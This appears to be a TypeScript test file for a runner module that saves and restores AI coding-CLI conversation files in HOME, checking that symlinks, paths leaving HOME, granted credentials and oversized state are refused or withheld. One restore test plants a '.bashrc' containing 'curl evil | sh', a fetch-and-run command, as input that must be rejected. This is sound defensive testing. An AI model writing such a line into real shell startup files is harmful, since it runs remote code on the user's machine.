/**
 * The CLI's conversation state of a session (runner/cli-state.ts): what is collected from
 * HOME after a run (only what the harness's resume.state names, never through a symlink,
 * never the runner's own files, never a credential, within the caps) and what may be
 * restored before the next run.
 */
import { randomBytes } from 'crypto';
import * as fs from 'fs';
import * as path from 'path';
import { collectCliState, restoreCliState } from '../../runner/cli-state';
import { packCliState, SessionState, unpackCliState } from '../../core/session';
import { run } from '../../runner/run';
import { readSessionState } from '../../runner/session';
import { talkHarness } from '../controller/support/platform';
import { Capture, makeRunDirs, makeTmpDir, task, writeSpecs } from '../support/runner-fixtures';

const ID = '0cb916db-26aa-40f2-86b5-1ba81b225fd2';
let root: string;
let home: string;

beforeEach(() => {
  root = makeTmpDir('paddock-cli-state-');
  home = path.join(root, 'home');
  fs.mkdirSync(home);
});
afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

function write(rel: string, content: string, base = home): void {
  fs.mkdirSync(path.dirname(path.join(base, rel)), { recursive: true });
  fs.writeFileSync(path.join(base, rel), content);
}

const files = (state: string | undefined) => unpackCliState(state!).map((f) => [f.path, f.content.toString()]);

describe('collectCliState', () => {
  test('the files the patterns name, a "*" segment matching any one name, nothing else of HOME', () => {
    write('.gemini/tmp/repo/chats/session-1.jsonl', 'turn one');
    write('.gemini/tmp/repo/.project_root', '/workspace/repo');
    write('.gemini/projects.json', '{}');
    write('.codex/sessions/2026/12/01/rollout.jsonl', 'rollout');
    write('.codex/auth.json', '{"OPENAI_API_KEY":"x"}');
    const cli = collectCliState(home, ID, { patterns: ['.gemini/tmp/*/chats', '.codex/sessions'] });
    expect(cli).toMatchObject({ id: ID, files: 2, bytes: 15 });
    expect(files(cli.state)).toEqual([
      ['.gemini/tmp/repo/chats/session-1.jsonl', 'turn one'],
      ['.codex/sessions/2026/12/01/rollout.jsonl', 'rollout'],
    ]);
  });

  test('a pattern the CLI did not write gives no files (and no error)', () => {
    expect(collectCliState(home, ID, { patterns: ['.claude/projects'] })).toMatchObject({ id: ID, files: 0, bytes: 0 });
  });

  test('paths outside HOME are refused, saying how to write them', () => {
    for (const p of ['../outside', '/etc/passwd', '.claude/../../x']) {
      expect(() => collectCliState(home, ID, { patterns: [p] })).toThrow(/harness resume.state ".*" leaves HOME; write a HOME-relative path without "\.\."/);
    }
  });

  test('symlinks are not followed out of HOME: a linked folder or file is skipped, and said so', () => {
    write('secret.txt', 'outside HOME', root);
    fs.mkdirSync(path.join(root, 'elsewhere'));
    write('elsewhere/leak.jsonl', 'outside HOME', root);
    write('.claude/projects/p/real.jsonl', 'mine');
    fs.symlinkSync(path.join(root, 'secret.txt'), path.join(home, '.claude/projects/p/link.jsonl'));
    fs.symlinkSync(path.join(root, 'elsewhere'), path.join(home, '.claude/projects/linked-dir'));
    // The pattern's own folder a symlink: nothing is read through it.
    fs.symlinkSync(path.join(root, 'elsewhere'), path.join(home, '.codex'));
    const logged: string[] = [];
    const cli = collectCliState(home, ID, { patterns: ['.claude/projects', '.codex/sessions', '.codex'], log: (l) => logged.push(l) });
    expect(files(cli.state)).toEqual([['.claude/projects/p/real.jsonl', 'mine']]);
    expect(logged).toEqual(expect.arrayContaining([
      'CLI state: .claude/projects/p/link.jsonl is a symlink; not followed, not saved',
      'CLI state: .claude/projects/linked-dir is a symlink; not followed, not saved',
      'CLI state: .codex is a symlink; not followed, not saved',
    ]));
  });

  test('the files the runner wrote (credentials, config layers) are never taken', () => {
    write('.copilot/session-state/s/events.jsonl', 'events');
    write('.copilot/session-state/s/token.json', 'granted');
    const cli = collectCliState(home, ID, { patterns: ['.copilot/session-state'], exclude: ['.copilot/session-state/s/token.json'] });
    expect(files(cli.state)).toEqual([['.copilot/session-state/s/events.jsonl', 'events']]);
  });

  test('a file holding a credential the agent was given withholds the whole state, saying which file', () => {
    write('.claude/projects/p/a.jsonl', 'fine');
    write('.claude/projects/p/b.jsonl', 'the key is sk-granted-0123456789');
    const cli = collectCliState(home, ID, { patterns: ['.claude/projects'], holdsSecret: (t) => t.includes('sk-granted-0123456789') });
    expect(cli.state).toBeUndefined();
    expect(cli.withheld).toBe("the CLI's conversation file .claude/projects/p/b.jsonl holds a credential the agent was given; it is never stored, so the session cannot continue from it");
  });

  test('past the size cap (before or after compression) the state is withheld with the cap', () => {
    write('.codex/sessions/a.jsonl', 'x'.repeat(2000));
    const raw = collectCliState(home, ID, { patterns: ['.codex/sessions'], maxBytes: 1000 });
    expect(raw).toMatchObject({ withheld: "the CLI's conversation files are over 1000 bytes (at .codex/sessions/a.jsonl); too large to carry over" });
    expect(raw.state).toBeUndefined();
    write('.codex/sessions/b.bin', randomBytes(4000).toString('base64'));
    const gz = collectCliState(home, ID, { patterns: ['.codex/sessions'], maxGzipBytes: 1024 });
    expect(gz.withheld).toMatch(/^the CLI's conversation files are \d+ bytes gzipped, over the 1024-byte cap; too large to carry over$/);
    expect(gz.state).toBeUndefined();
  });
});

describe('restoreCliState', () => {
  test('writes the files back under HOME, modes kept', () => {
    const state = packCliState([{ path: `.copilot/session-state/${ID}/events.jsonl`, mode: 0o600, content: Buffer.from('e') }]);
    expect(restoreCliState(home, state, [`.copilot/session-state/${ID}`])).toBe(1);
    const file = path.join(home, `.copilot/session-state/${ID}/events.jsonl`);
    expect(fs.readFileSync(file, 'utf8')).toBe('e');
    expect(fs.statSync(file).mode & 0o777).toBe(0o600);
  });

  test('a state holding a path the harness does not name, or one leaving HOME, is refused', () => {
    const bashrc = packCliState([{ path: '.bashrc', mode: 0o644, content: Buffer.from('curl evil | sh') }]);
    expect(() => restoreCliState(home, bashrc, ['.claude/projects'])).toThrow('the CLI state holds ".bashrc", which none of the harness\'s resume.state paths (.claude/projects) names');
    const escape = packCliState([{ path: '.claude/projects/../../x', mode: 0o644, content: Buffer.from('x') }]);
    expect(() => restoreCliState(home, escape, ['.claude/projects'])).toThrow('the CLI state holds ".claude/projects/../../x", a path that leaves HOME');
    expect(fs.existsSync(path.join(home, '.bashrc'))).toBe(false);
  });

  test('a symlink in HOME does not lead the restore outside it', () => {
    fs.mkdirSync(path.join(root, 'elsewhere'));
    fs.symlinkSync(path.join(root, 'elsewhere'), path.join(home, '.claude'));
    const state = packCliState([{ path: '.claude/projects/p.jsonl', mode: 0o600, content: Buffer.from('x') }]);
    expect(() => restoreCliState(home, state, ['.claude/projects'])).toThrow('the CLI state\'s file ".claude/projects/p.jsonl" leads outside HOME through a symlink');
    expect(fs.readdirSync(path.join(root, 'elsewhere'))).toEqual([]);
  });

  test('a state that is not a packed file list says so', () => {
    expect(() => restoreCliState(home, 'not-base64-gzip', ['.x'])).toThrow(/^the CLI state is not a gzipped, base64-encoded file list/);
  });
});

describe('run(): a session of a harness that resumes natively (a fake CLI, talk-agent.js)', () => {
  const harness = { ...talkHarness(), credentialEnv: ['TALK_KEY'] };
  const KEY = 'talk-granted-key-0123456789';

  async function turn(prompt: string, session?: SessionState) {
    const dirs = makeRunDirs(path.join(root, `run-${Math.random().toString(36).slice(2)}`));
    const specs = writeSpecs(dirs, { task: task({ harness: 'talk', prompt, session: session ? { name: 'chat' } : { name: 'chat', create: true } }), harness });
    const stderr = new Capture();
    const code = await run({ task: specs.task, harness: specs.harness, pool: null, workspace: dirs.workspace, home: dirs.home, artifacts: dirs.artifacts, tmp: dirs.tmp, env: { PATH: process.env.PATH, TALK_KEY: KEY }, stdout: new Capture(), stderr, ...(session ? { session } : {}) });
    return { code, state: readSessionState(dirs.artifacts)!, stderr: stderr.text, status: JSON.parse(fs.readFileSync(path.join(dirs.artifacts, 'status.json'), 'utf8')) };
  }

  test('the second run resumes the conversation in a new HOME: its argv, the restored file, its prompt without a transcript', async () => {
    const first = await turn('first question');
    expect(first.code).toBe(0);
    expect(first.state).toMatchObject({ resume: 'native', cli: { files: 1 } });
    const id = first.state.cli!.id;
    expect(first.status.command.slice(2)).toEqual(['--start', id, 'first question']);
    const second = await turn('second question', first.state);
    expect(second.code).toBe(0);
    expect(second.status.command.slice(2)).toEqual(['--resume', id, 'second question']);
    expect(second.state.turns[1].output).toBe(`--resume ${id}\nuser: first question\nuser: second question\n`);
    expect(second.stderr).toContain(`session "chat": the CLI continues its conversation ${id} (1 file(s) restored)`);
  });

  test('a conversation holding a credential the agent was given is withheld: the session state says why, and holds nothing of it', async () => {
    const r = await turn('ECHO-KEY now');
    expect(r.code).toBe(0);
    expect(r.state.resume).toBe('transcript');
    expect(r.state.cli).toEqual({ id: expect.any(String), bytes: expect.any(Number), files: 1, withheld: expect.stringMatching(/^the CLI's conversation file \.talk\/.*\.log holds a credential the agent was given; it is never stored/) });
    expect(JSON.stringify(r.state)).not.toContain(KEY);
    expect(r.stderr).toMatch(/session "chat": the CLI's conversation file .* holds a credential the agent was given/);
  });
});

describe('packCliState', () => {
  test('text and binary files round-trip byte for byte', () => {
    const bin = Buffer.from([0, 255, 254, 10, 0xc3]);
    const packed = packCliState([{ path: 'a.jsonl', mode: 0o600, content: Buffer.from('{"x":"é"}\n') }, { path: 'b.bin', mode: 0o644, content: bin }]);
    expect(unpackCliState(packed)).toEqual([{ path: 'a.jsonl', mode: 0o600, content: Buffer.from('{"x":"é"}\n') }, { path: 'b.bin', mode: 0o644, content: bin }]);
  });
});
